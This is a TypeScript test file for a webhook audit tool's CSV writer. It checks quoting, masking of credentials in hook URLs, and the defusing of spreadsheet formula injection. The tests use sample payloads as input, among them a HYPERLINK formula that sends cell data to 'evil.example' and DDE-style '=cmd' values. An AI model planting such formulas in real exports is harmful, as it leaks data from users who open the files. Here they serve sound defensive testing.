import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/fleet/rules.js';
import { auditTarget } from '../../../src/fleet/rules.js';
import { Secret } from '../../../src/model/secret.js';
import { csvCell, findingsToCsv, hooksToCsv, toCsv } from '../../../src/output/csv.js';
import { sanitizeOutput } from '../../../src/output/sanitize.js';

/** Read back with a real RFC 4180 parser, strict about quotes and row widths. */
const readBack = (text: string): string[][] => parse(text, { relax_quotes: false, relax_column_count: false, skip_empty_lines: false });

const AWKWARD = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'crlf\r\nhere', '', ' spaced ', '部署通知 🚀', '"', ',', 'tab\there'];

describe('CSV writer', () => {
  it('round-trips awkward fields through csv-parse', () => {
    const text = toCsv(['a', 'b', 'c'], [AWKWARD.slice(0, 3), AWKWARD.slice(3, 6), AWKWARD.slice(6, 9), AWKWARD.slice(9, 12)]);
    expect(readBack(text)).toEqual([['a', 'b', 'c'], AWKWARD.slice(0, 3), AWKWARD.slice(3, 6), AWKWARD.slice(6, 9), AWKWARD.slice(9, 12)]);
  });

  it('quotes only what needs it and doubles quotes (RFC 4180)', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('x\ny')).toBe('"x\ny"');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(42)).toBe('42');
  });

  it('ends rows with LF by default, CRLF on request; both parse the same', () => {
    const rows = [['1', 'x,y']];
    const lf = toCsv(['id', 'v'], rows);
    const crlf = toCsv(['id', 'v'], rows, { eol: '\r\n' });
    expect(lf).toBe('id,v\n1,"x,y"\n');
    expect(crlf).toBe('id,v\r\n1,"x,y"\r\n');
    expect(readBack(crlf)).toEqual(readBack(lf));
  });

  it('LF rows pass the stdout sanitizer unchanged (a CR would be shown as \\u000d)', () => {
    const text = toCsv(['id', 'v'], [['1', 'two\nlines']]);
    expect(sanitizeOutput(text, { keepColor: false })).toBe(text);
  });

  it.each(['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'])(
    'defuses a formula-looking cell %j with a leading quote',
    (value) => {
      const [, row] = readBack(toCsv(['v'], [[value]]));
      expect(row).toEqual([`'${value}`]);
    },
  );

  it('leaves a formula character that is not first alone', () => {
    expect(readBack(toCsv(['v'], [['a=b+c-d@e']]))[1]).toEqual(['a=b+c-d@e']);
  });
});

describe('audit -o csv', () => {
  it('one row per finding, with the masked URL and no secret', async () => {
    const findings: Finding[] = await auditTarget({
      target: 'codeup:org/101',
      provider: 'codeup',
      hooks: [
        { hook: { id: '7', url: 'http://deploy:Hunter2Secret@ci.example.com/=cmd|x?token=t0ken-value', events: ['push'] } },
        { hook: { id: '8', url: 'https://ci.example.com/ok', events: ['push'], secret: new Secret('') } },
      ],
    });
    const text = findingsToCsv(findings);
    expect(text).not.toContain('Hunter2Secret');
    expect(text).not.toContain('t0ken-value');
    const [header, ...rows] = readBack(text);
    expect(header).toEqual(['severity', 'rule', 'target', 'hook', 'url', 'message', 'fix']);
    expect(rows.map((r) => r.slice(0, 4))).toEqual([
      ['high', 'insecure-url', 'codeup:org/101', '7'],
      ['medium', 'no-secret', 'codeup:org/101', '7'],
      ['high', 'credentials-in-url', 'codeup:org/101', '7'],
    ]);
    expect(rows[0]?.[4]).toBe('http://deploy:***@ci.example.com/=cmd|x?token=***');
    expect(rows.map((r) => r[6])).toEqual(findings.map((f) => f.fix));
  });
});

describe('export -o csv', () => {
  it('one row per hook; secret set/none, never a value; masked URL; formula-looking names defused', () => {
    const text = hooksToCsv(
      [
        {
          target: 'codearts:9',
          hook: {
            id: '1',
            name: '=cmd()',
            url: 'https://a:pw123456@x.example.com/?sig=s1gn4ture',
            events: ['push', 'merge_request'],
            branchFilter: '^main$',
            noteFilters: ['deploy me', 'ship,it'],
            secret: new Secret(''),
          },
        },
        { target: 'codeup:o/2', hook: { id: '2', url: 'https://y.example.com/', events: ['tag_push'], sslVerify: false, createdAt: '2026-11-01T00:00:00Z' } },
      ],
      { redact: (t) => t.replaceAll('ship', '******') },
    );
    expect(text).not.toContain('pw123456');
    expect(text).not.toContain('s1gn4ture');
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toEqual([
      {
        target: 'codearts:9',
        id: '1',
        name: "'=cmd()",
        url: 'https://a:***@x.example.com/?sig=***',
        events: 'push merge_request',
        branch_filter: '^main$',
        note_filters: 'deploy me\n******,it',
        secret: 'set',
        ssl_verify: '',
        description: '',
        created_at: '',
      },
      {
        target: 'codeup:o/2',
        id: '2',
        name: '',
        url: 'https://y.example.com/',
        events: 'tag_push',
        branch_filter: '',
        note_filters: '',
        secret: 'none',
        ssl_verify: 'false',
        description: '',
        created_at: '2026-11-01T00:00:00Z',
      },
    ]);
  });
});
